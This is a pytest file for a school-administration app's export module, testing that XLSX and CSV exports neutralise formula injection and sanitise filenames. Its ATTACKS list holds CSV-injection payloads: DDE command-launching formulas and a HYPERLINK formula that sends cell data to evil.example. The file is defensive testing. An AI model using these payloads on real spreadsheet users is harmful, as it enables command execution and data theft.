"""The one place where exported files are written: no user text leaves as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from opora.core.exports import (
    csv_bytes,
    export_filename,
    looks_like_formula,
    sheet_header,
    workbook_bytes,
    workbook_new,
)

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_is_plain_text_in_xlsx(text: str) -> None:
    book, sheet = workbook_new("Список")
    sheet_header(sheet, ["Наименование"])
    sheet.append([text])
    cell = load_workbook(io.BytesIO(workbook_bytes(book))).active["A2"]
    assert cell.value == text
    assert cell.data_type == "s"
    assert cell.quotePrefix


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_an_apostrophe_in_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "'" + text


def test_numbers_and_ordinary_text_stay_as_they_are() -> None:
    for text in ("-5", "+7,5", "12%", "МБОУ СОШ № 5", "2024/25"):
        assert not looks_like_formula(text)
    book, sheet = workbook_new("Лист")
    sheet.append(["-5", 3, "Школа"])
    row = load_workbook(io.BytesIO(workbook_bytes(book))).active[1]
    assert [c.value for c in row] == ["-5", 3, "Школа"]
    assert not any(c.quotePrefix for c in row)
    text = csv_bytes([["Школа", 1.25, True, None]]).decode("utf-8-sig")
    assert text.strip() == "Школа;1,25;да;"


def test_export_file_names_are_russian_and_safe() -> None:
    name = export_filename("Дорожная карта", 'МБОУ "СОШ" № 5 / филиал', extension="docx")
    assert name == "Дорожная карта — МБОУ СОШ № 5 филиал.docx"
    assert export_filename("", extension=".xlsx") == "Опора.xlsx"
    assert len(export_filename("Я" * 500, extension="pdf")) <= 124
